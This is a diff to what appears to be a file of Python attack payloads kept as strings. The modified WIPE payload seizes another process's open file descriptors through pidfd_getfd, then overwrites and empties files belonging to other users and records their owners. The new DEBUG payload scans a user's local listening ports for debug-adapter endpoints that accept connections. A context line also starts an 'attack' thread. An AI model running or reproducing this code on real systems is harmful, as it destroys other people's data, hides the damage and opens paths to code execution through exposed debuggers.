@@ -159,7 +159,7 @@ attack = threading.Thread(target=take_all, args=(uid, 25), daemon=True)
 attack.start()
 """
 
-# Takes over what its server holds open of others' files, and empties it; prints their names.
+# Takes over what its server holds open, and empties others' files; prints names and owners.
 # Needs server, its number.
 WIPE = """
 import ctypes, json, os
@@ -170,10 +170,11 @@ for number in (server, os.getpid()):
         try:
             path = os.readlink(f"/proc/{number}/fd/{name}")
             taken = ctypes.CDLL(None).syscall(getfd, os.pidfd_open(number), int(name), 0)
-            if os.path.isabs(path) and os.fstat(taken).st_uid != os.getuid():
+            owner = os.fstat(taken).st_uid
+            if os.path.isabs(path) and owner != os.getuid():
                 os.write(taken, b"Nothing happened here.\\n")
                 os.ftruncate(taken, 0)
-                found.append(path)
+            found.extend([[path, owner]] * os.path.isabs(path))
         except OSError:
             pass
 print(json.dumps(found))
@@ -234,4 +235,22 @@ found, end, server.timeout = [], time.monotonic() + 30, 1
 while not found and time.monotonic() < end:
     server.handle_request()
 print(repr(found), flush=True)
+"""
+
+# Speaks to every port of an account's as a debugger does; prints those that let it in. Needs uid.
+DEBUG = """
+import json, socket
+ask = json.dumps({"seq": 1, "type": "request", "command": "initialize", "arguments": {}}).encode()
+found = []
+for line in open("/proc/net/tcp").read().splitlines()[1:]:
+    fields = line.split()
+    if fields[3] == "0A" and int(fields[7]) == uid:
+        port = int(fields[1].partition(":")[2], 16)
+        with socket.create_connection(("127.0.0.1", port), timeout=3) as visitor:
+            try:
+                visitor.sendall(b"Content-Length: %d\\r\\n\\r\\n" % len(ask) + ask)
+                found += [port] * (b"Content-Length" in visitor.recv(9999))
+            except OSError:
+                pass
+print(json.dumps(found))
 """
